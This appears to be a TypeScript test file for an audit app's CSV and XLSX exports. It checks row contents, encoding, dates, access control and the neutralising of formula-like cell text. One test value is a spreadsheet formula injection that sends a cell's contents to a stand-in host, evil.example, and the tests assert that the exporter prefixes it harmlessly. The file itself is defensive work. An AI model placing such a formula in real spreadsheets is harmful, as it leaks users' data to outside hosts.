// CSV and XLSX exports parsed back (csv-parse for CSV, exceljs for XLSX) and compared with what the grid API shows; formula-like text neutralised.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createTestApp, type TestApp } from '../support/app';
import {
  addMember,
  addRequest,
  addSubject,
  type Agent,
  expectProblem,
  grid,
  type GridCell,
  newAuditViaApi,
  newUser,
  tokenAgent,
} from '../support/factories';
import { insertFileEvidence, type InsertedEvidence } from '../support/evidence-rows';
import { getPdf } from '../support/pdf';
import { ExportsController } from '../../apps/api/src/exports/exports.controller';
import { ExportsModule } from '../../apps/api/src/exports/exports.module';
import { ReportsModule } from '../../apps/api/src/reports/reports.module';

const NOW = '2023-05-25T16:00:00.000Z';
const STATUS_LABEL: Record<string, string> = {
  NOT_STARTED: 'Not started',
  IN_PROGRESS: 'In progress',
  IN_REVIEW: 'In review',
  CHANGES_REQUESTED: 'Changes requested',
  APPROVED: 'Approved',
  NOT_APPLICABLE: 'Not applicable',
};

/** RFC 4180 (quoted fields with "" escapes, embedded line breaks, CRLF), read by csv-parse. */
const parseCsv = (text: string): string[][] => parse(text);

const records = (rows: string[][]) => rows.slice(1).map((r) => Object.fromEntries(rows[0].map((h, i) => [h, r[i]])));

describe('CSV and XLSX exports', () => {
  let t: TestApp;
  let agent: Agent;
  let auditId: string;
  let cells: GridCell[];
  let evidence: InsertedEvidence;
  const injection = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

  beforeAll(async () => {
    t = await createTestApp({ now: NOW });
    const lead = await newUser(t.prisma, { name: 'Zoë Ødegård' });
    const contributor = await newUser(t.prisma, { name: 'Иван Петров' });
    agent = await tokenAgent(t.http, lead);
    auditId = (await newAuditViaApi(agent)).id;
    await addMember(agent, auditId, contributor, 'CONTRIBUTOR');
    await addSubject(agent, auditId, { name: '@Analytics, "beta"' });
    await addSubject(agent, auditId, { name: 'Łódź ads' });
    await addRequest(agent, auditId, { title: '+Keys issued', text: 'List every key.' });
    await addRequest(agent, auditId, { title: 'Retention', text: 'Describe retention.' });
    cells = await grid(agent, auditId);
    const first = cells[0];
    const res = await agent.patch(`/api/audits/${auditId}/responses/${first.id}`).send({
      version: first.version,
      answer: `${injection}\nsecond line, with a comma`,
      assigneeId: contributor.id,
      dueDate: '2023-06-01',
    });
    expect(res.status).toBe(200);
    cells = await grid(agent, auditId);
    evidence = await insertFileEvidence(t.prisma, auditId, [first.id], {
      title: '-2+3 register',
      versions: 2,
      custodian: 'Łukasz Żółć',
    });
  });

  afterAll(() => t.close());

  it('exports the grid as UTF-8 CSV with a BOM, the same rows as the API, formulas neutralised', async () => {
    const res = await getPdf(agent, `/api/audits/${auditId}/exports/responses.csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="E2E-[0-9a-f]+-responses-2023-05-25\.csv"$/,
    );
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = records(parseCsv(bytes.subarray(3).toString('utf8')));
    expect(rows).toHaveLength(cells.length);
    expect(rows.map((r) => [r['Subject'], Number(r['Request']), r['Status'], r['Assignee'], r['Due date']])).toEqual(
      cells.map((c) => [
        c.subject.name === '@Analytics, "beta"' ? `'${c.subject.name}` : c.subject.name,
        c.request.ordinal,
        STATUS_LABEL[c.status],
        c.assignee?.name ?? '',
        c.dueDate ?? '',
      ]),
    );
    expect(rows[0]['Answer']).toBe(`'${injection}\nsecond line, with a comma`);
    expect(rows[0]['Request title']).toBe("'+Keys issued");
    expect(rows[0]['Assignee']).toBe('Иван Петров');
  });

  it('exports the grid as XLSX: header row, frozen panes, widths, dates as dates, same data', async () => {
    const res = await getPdf(agent, `/api/audits/${auditId}/exports/responses.xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body);
    const sheet = book.getWorksheet('Responses')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual(expect.arrayContaining(['Subject', 'Request', 'Status', 'Due date', 'Answer']));
    expect(sheet.getRow(1).font?.bold).toBe(true);
    const col = (name: string) => header.indexOf(name) + 1;
    expect(sheet.getColumn(col('Answer')).width).toBeGreaterThan(40);
    expect(sheet.rowCount).toBe(cells.length + 1);
    cells.forEach((c, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(col('Request')).value).toBe(c.request.ordinal);
      expect(row.getCell(col('Status')).value).toBe(STATUS_LABEL[c.status]);
      const due = row.getCell(col('Due date')).value;
      if (c.dueDate) expect(due).toEqual(new Date(`${c.dueDate}T00:00:00.000Z`));
      else expect(due).toBeNull();
    });
    expect(sheet.getRow(2).getCell(col('Subject')).value).toBe(`'@Analytics, "beta"`);
    expect(sheet.getRow(2).getCell(col('Answer')).value).toBe(`'${injection}\nsecond line, with a comma`);
  });

  it('exports the evidence index: one row per file version with its SHA-256, size as a number', async () => {
    const csv = records(
      parseCsv((await getPdf(agent, `/api/audits/${auditId}/exports/evidence.csv`)).body.subarray(3).toString('utf8')),
    );
    expect(csv.map((r) => [r['Title'], r['Version'], r['Current version'], r['SHA-256'], r['Custodian']])).toEqual([
      ["'-2+3 register", '2', 'yes', evidence.hashes[1], 'Łukasz Żółć'],
      ["'-2+3 register", '1', 'no', evidence.hashes[0], 'Łukasz Żółć'],
    ]);
    expect(csv[0]['Collected on']).toBe('2023-05-22');
    expect(csv[0]['Uploaded at (America/New_York)']).toBe('2023-05-23T11:00:00.000-04:00');

    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await getPdf(agent, `/api/audits/${auditId}/exports/evidence.xlsx`)).body);
    const sheet = book.getWorksheet('Evidence')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = (row: number, name: string) => sheet.getRow(row).getCell(header.indexOf(name) + 1).value;
    expect(cell(2, 'Size (bytes)')).toBe(10_001);
    expect(cell(3, 'Size (bytes)')).toBe(10_000);
    expect(cell(2, 'SHA-256')).toBe(evidence.hashes[1]);
    expect(cell(2, 'Collected on')).toEqual(new Date('2023-05-22T00:00:00.000Z'));
    // Excel has no zones: the cell holds the New York wall-clock time the header names.
    expect(cell(2, 'Uploaded at (America/New_York)')).toEqual(new Date('2023-05-23T11:00:00.000Z'));
  });

  it('is its own feature module, not part of the reports module', () => {
    expect(t.app.select(ExportsModule).get(ExportsController, { strict: true })).toBeInstanceOf(ExportsController);
    expect(() => t.app.select(ReportsModule).get(ExportsController, { strict: true })).toThrow();
  });

  it('refuses unknown formats and non-members', async () => {
    expectProblem(await agent.get(`/api/audits/${auditId}/exports/responses.pdf`), 400, 'VALIDATION_FAILED', [
      'format',
    ]);
    const stranger = await tokenAgent(t.http, await newUser(t.prisma));
    expectProblem(await stranger.get(`/api/audits/${auditId}/exports/evidence.csv`), 404, 'NOT_FOUND');
  });
});
